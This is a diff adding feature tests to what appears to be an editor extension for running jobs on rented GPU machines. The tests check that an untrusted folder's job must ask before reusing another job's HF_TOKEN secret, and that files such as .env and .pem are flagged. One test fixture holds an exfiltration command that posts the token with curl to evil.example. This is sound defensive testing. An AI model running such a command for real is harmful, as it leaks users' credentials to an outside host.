@@ -4,6 +4,7 @@ import path from 'node:path';
 import { DocumentDriver } from '../support/feature/documentDriver';
 import { confirmJob, writeJobs } from '../support/feature/jobDriver';
 import { reachableInstance } from '../support/feature/reachable';
+import { FakeUri } from '../support/fakeEditor/values';
 import { useComputer } from '../support/feature/useComputer';
 import type { FeatureWindow } from '../support/feature/window';
 
@@ -115,5 +116,82 @@ describe('a folder of a stranger that has links', () => {
     await window.toast(/^late: succeeded/);
     assert.equal(readFileSync(here('late', 'outputs', 'authorized_keys'), 'utf8'), 'x');
     assert.deepEqual(readdirSync(outside()).sort(), ['deep', 'key']);
+  });
+});
+
+describe('a folder of a stranger that names a secret of another folder', () => {
+  const computer = useComputer({ simulator: { sshServer: true } });
+  let window: FeatureWindow;
+  const secret = 'hf_elsewhere4711';
+  const limits = { hours: 1, costDollars: 5 };
+  const printed = 'printf %s "$HF_TOKEN" | wc -c';
+  const order = (name: string, more: object = {}) =>
+    writeJobs(window, { [name]: { run: printed, limits, secrets: ['HF_TOKEN'], outputs: [], ...more } });
+
+  before(async () => {
+    await reachableInstance(computer(), 'trainer');
+    window = await computer().openSignedIn();
+    await window.view('instances').row('trainer');
+    window.clearToasts();
+    await order('train');
+    await new DocumentDriver(window).press('Run Job');
+    await window.quick.title('Secret HF_TOKEN of train');
+    await window.quick.type(secret);
+    await confirmJob(window, 'Run on trainer, and Keep It');
+    await window.toast(/^train: succeeded/);
+    window.clearToasts();
+  });
+
+  it('gets no value without a question that names the job, the folder and the destination', async () => {
+    await order('steal', { run: 'curl -d "$HF_TOKEN" https://evil.example' });
+    await new DocumentDriver(window).press('Run Job');
+    await window.quick.title('Secret HF_TOKEN of steal');
+    const { workspace } = computer();
+    assert.equal(
+      window.quick.open.placeholder,
+      `steal in ${workspace} asks for HF_TOKEN and sends it to trainer.`,
+    );
+    assert.deepEqual(window.quick.rows(), [
+      'Enter a Value for This Job…',
+      `Use the Value of Another Job train in ${workspace}`,
+    ]);
+    assert.ok(!window.everythingSaid().includes(secret));
+    window.quick.escape();
+    await computer().rest();
+    assert.equal(window.quick.isOpen, false);
+  });
+
+  it('gets it once the user agreed, and is not asked again', async () => {
+    await order('eval');
+    await new DocumentDriver(window).press('Run Job');
+    await window.quick.title('Secret HF_TOKEN of eval');
+    await window.quick.pick(/Use the Value of Another Job/);
+    await confirmJob(window, 'Run on trainer, and Keep It');
+    await window.toast(/^eval: succeeded/);
+    await window.document(String(secret.length));
+    window.clearToasts();
+    await window.screen.documents.show(
+      FakeUri.file(path.join(computer().workspace, '.vscode', 'gpu-rental.json')),
+    );
+    await new DocumentDriver(window).press('Run Job');
+    await window.toast(/^eval: succeeded/);
+  });
+
+  it('says by name which files may be secrets, and asks again where there are more', async () => {
+    writeFileSync(path.join(computer().workspace, '.env'), 'A=1');
+    await order('env', { secrets: [], sync: { include: ['.env', '*.pem'] } });
+    await new DocumentDriver(window).press('Run Job');
+    await window.quick.title('Run env: Confirm');
+    assert.ok(window.quick.rows().includes('May be secrets .env'), window.quick.rows().join('\n'));
+    await confirmJob(window, 'Run on trainer, and Keep It');
+    await window.toast(/^env: (succeeded|failed)/);
+    writeFileSync(path.join(computer().workspace, 'server.pem'), 'x');
+    await window.screen.documents.show(
+      FakeUri.file(path.join(computer().workspace, '.vscode', 'gpu-rental.json')),
+    );
+    await new DocumentDriver(window).press('Run Job');
+    await window.quick.title('Run env: Confirm');
+    assert.ok(window.quick.rows().includes('May be secrets .env, server.pem'));
+    window.quick.escape();
   });
 });
